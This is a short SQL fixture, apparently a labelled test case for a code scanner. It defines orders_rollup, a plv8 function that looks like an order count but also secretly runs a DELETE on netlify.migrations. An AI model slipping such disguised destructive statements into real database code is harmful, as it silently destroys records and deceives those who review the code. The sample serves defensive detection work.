-- class: unverifiable-body
-- A function in an unknown language whose body hides a ledger delete; on servers with plv8 installed it runs as JavaScript.
CREATE FUNCTION orders_rollup(tenant uuid) RETURNS integer LANGUAGE plv8 AS $$
  plv8.execute("DELETE FROM netlify.migrations WHERE name > '2024'");
  return plv8.execute("SELECT count(*) AS n FROM orders WHERE tenant_id = $1", [tenant])[0].n;
$$;
